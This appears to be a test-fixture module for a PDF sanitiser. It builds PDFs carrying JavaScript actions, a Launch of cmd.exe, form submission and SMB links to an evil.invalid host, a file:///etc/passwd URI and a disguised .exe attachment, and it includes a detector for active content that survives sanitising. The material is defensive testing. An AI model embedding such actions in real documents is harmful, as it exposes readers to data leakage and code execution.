"""PDFs carrying active content of every class kkrdesk strips from packs, built with pikepdf (and one by hand)."""

from __future__ import annotations

from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tools.pdf_bytes import pdf_from_objects

SAFE_LINK = "https://www.kl.dk/kkr"
PLAIN_HTTP_LINK = "http://example.org/plain"


def _blank_pdf(pages: int = 2) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for number in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 14 Tf 72 760 Td (Side {number + 1}) Tj ET".encode())
    return pdf


def _js(pdf: pikepdf.Pdf, code: str) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def _link(pdf: pikepdf.Pdf, rect, **entries) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(rect),
                                        Border=Array([0, 0, 0]), **entries))


def _add_annotation(page: pikepdf.Page, annotation: Dictionary) -> None:
    if "/Annots" not in page.obj:
        page.obj.Annots = Array()
    page.obj.Annots.append(annotation)


def hostile_pdf(path: Path) -> Path:
    """Every class at once: page-open JavaScript, JavaScript/Launch/SubmitForm/GoToR/GoToE/ImportData
    links, file: and javascript: URI links, a chain that hides JavaScript behind a safe link, a form
    field with keystroke JavaScript, a file attachment carrying an .exe, an embedded file, RichMedia,
    XFA, document OpenAction and named JavaScript; plus an internal link and two web links to keep."""
    pdf = _blank_pdf(2)
    first, second = pdf.pages[0], pdf.pages[1]
    first.obj.AA = Dictionary(O=_js(pdf, "app.alert('page open')"), C=_js(pdf, "app.alert('close')"))
    actions = [
        _js(pdf, "app.launchURL('http://evil.invalid')"),
        Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.invalid/submit"))),
        Dictionary(S=Name.GoToR, F=String("\\\\evil.invalid\\share\\x.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x.pdf"))),
        Dictionary(S=Name.ImportData, F=String("data.fdf")),
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.URI, URI=String("smb://evil.invalid/share")),
        # a safe link whose chain runs JavaScript, then a ResetForm chaining JavaScript again
        Dictionary(S=Name.URI, URI=String(PLAIN_HTTP_LINK),
                   Next=Array([Dictionary(S=Name.ResetForm, Next=_js(pdf, "this.print()"))])),
    ]
    for number, action in enumerate(actions):
        y = 700 - 40 * number
        _add_annotation(first, _link(pdf, [72, y, 300, y + 20], A=action))
    _add_annotation(first, _link(pdf, [72, 200, 300, 220], A=Dictionary(S=Name.URI, URI=String(SAFE_LINK))))
    _add_annotation(first, _link(pdf, [72, 160, 300, 180], Dest=Array([second.obj, Name.Fit])))
    _add_annotation(first, _link(pdf, [72, 120, 300, 140],
                                 A=Dictionary(S=Name.GoTo, D=Array([second.obj, Name.XYZ, 0, 800, 0]))))
    # a form field whose keystroke and format actions are JavaScript, and a JavaScript button
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("navn"), AA=Dictionary(
        K=_js(pdf, "event.rc = true"), F=_js(pdf, "AFNumber_Format(2)"))))
    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([300, 300, 500, 320]),
                                          Parent=field, P=second.obj, AA=Dictionary(Fo=_js(pdf, "focus()"))))
    field.Kids = Array([widget])
    button = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn,
                                          T=String("knap"), Rect=Array([300, 340, 500, 360]),
                                          A=_js(pdf, "app.alert('button')")))
    _add_annotation(second, widget)
    _add_annotation(second, button)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field, button]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    # an .exe carried by a file-attachment annotation, and an embedded file in the document
    exe = pdf.make_stream(b"MZ\x90\x00 not really a program")
    exe.Type = Name.EmbeddedFile
    _add_annotation(second, pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([50, 50, 70, 70]), Name=Name.PushPin,
        FS=Dictionary(Type=Name.Filespec, F=String("faktura.exe"), EF=Dictionary(F=exe)))))
    _add_annotation(second, pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([100, 400, 300, 500]),
        RichMediaContent=Dictionary(Assets=Dictionary()))))
    second.obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    pdf.Root.OpenAction = _js(pdf, "app.alert('document open')")
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), _js(pdf, "app.alert('named')")])),
        EmbeddedFiles=Dictionary(Names=Array([String("x.exe"), Dictionary(
            Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=exe))])))
    pdf.save(path)
    return path


def hand_written_pdf(path: Path) -> Path:
    """A one-page PDF written byte by byte (no PDF library): a link running JavaScript, a Launch
    on page open, and a web link to keep."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> "
        b"/Annots [5 0 R 6 0 R] /AA << /O << /S /Launch /F (cmd.exe) >> >> >>",
        b"<< /Length 0 >>\nstream\n\nendstream",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
        b"/A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 670] "
        b"/A << /S /URI /URI (https://www.regionsjaelland.dk/) >> >>",
    ]
    path.write_bytes(pdf_from_objects(objects, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"))
    return path


ACTIVE_KEYS = ("/JS", "/JavaScript", "/AA", "/OpenAction", "/EF", "/EmbeddedFiles", "/XFA",
               "/RichMediaContent")
ACTIVE_TYPES = ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE",
                "/RichMediaExecute", "/Rendition", "/Movie", "/Sound")
ACTIVE_SUBTYPES = ("/FileAttachment", "/RichMedia", "/3D", "/Movie", "/Sound", "/Screen")


def active_leftovers(pdf: pikepdf.Pdf) -> list[str]:
    """Every trace of active content in any object of ``pdf`` (indirect ones and all they hold)."""
    found: list[str] = []
    stack = list(pdf.objects) + [pdf.trailer]
    seen: set[tuple[int, int]] = set()
    while stack:
        obj = stack.pop()
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, Array):
            stack.extend(v for v in obj if isinstance(v, (Dictionary, Array, pikepdf.Stream)))
            continue
        if not isinstance(obj, (Dictionary, pikepdf.Stream)):
            continue
        for key in obj:
            if key in ACTIVE_KEYS:
                found.append(f"key {key}")
            value = obj.get(key)
            if key == "/S" and str(value) in ACTIVE_TYPES:
                found.append(f"action {value}")
            if key == "/Subtype" and str(value) in ACTIVE_SUBTYPES:
                found.append(f"annotation {value}")
            if key == "/URI" and isinstance(value, pikepdf.String) \
                    and not bytes(value).lower().startswith((b"https://", b"http://")):
                found.append(f"uri {bytes(value)!r}")
            if isinstance(value, pikepdf.Stream) and value.get("/Type") == Name.EmbeddedFile:
                found.append("embedded file stream")
            if key != "/Parent" and isinstance(value, (Dictionary, Array, pikepdf.Stream)):
                stack.append(value)
        if isinstance(obj, pikepdf.Stream) and b"MZ\x90" in obj.read_raw_bytes()[:8]:
            found.append("program bytes")
    return found


def _one_class(build) -> bytes:
    import io

    pdf = _blank_pdf(1)
    build(pdf, pdf.pages[0])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _link_with(action):
    return lambda pdf, page: _add_annotation(page, _link(pdf, [72, 700, 300, 720], A=action))


def _attachment(pdf, page):
    exe = pdf.make_stream(b"MZ\x90\x00 not really a program")
    exe.Type = Name.EmbeddedFile
    _add_annotation(page, pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([50, 50, 70, 70]),
        FS=Dictionary(Type=Name.Filespec, F=String("faktura.exe"), EF=Dictionary(F=exe)))))


def _field_script(pdf, page):
    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("navn"),
                                          Rect=Array([300, 300, 500, 320]),
                                          AA=Dictionary(K=_js(pdf, "event.rc = true"))))
    _add_annotation(page, widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def _page_open_script(pdf, page):
    page.obj.AA = Dictionary(O=_js(pdf, "app.alert('page open')"))


def _richmedia(pdf, page):
    _add_annotation(page, pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia,
                                                       Rect=Array([100, 400, 300, 500]),
                                                       RichMediaContent=Dictionary(Assets=Dictionary()))))


def one_class_pdfs() -> dict[str, bytes]:
    """One small PDF per class of active content, by corpus name."""
    builders = {
        "javascript-ved-sideaabning": _page_open_script,
        "javascript-link": lambda pdf, page: _link_with(_js(pdf, "app.alert(1)"))(pdf, page),
        "launch-cmd-exe": _link_with(Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe")))),
        "submitform": _link_with(Dictionary(S=Name.SubmitForm, F=String("http://evil.invalid/"))),
        "gotor-smb": _link_with(Dictionary(S=Name.GoToR, F=String("\\\\evil.invalid\\x.pdf"),
                                           D=Array([0, Name.Fit]))),
        "uri-file": _link_with(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        "javascript-bag-next": lambda pdf, page: _link_with(Dictionary(
            S=Name.URI, URI=String(SAFE_LINK), Next=_js(pdf, "this.print()")))(pdf, page),
        "vedhaeftet-exe": _attachment,
        "formularfelt-med-javascript-og-xfa": _field_script,
        "richmedia": _richmedia,
    }
    return {name: _one_class(build) for name, build in builders.items()}
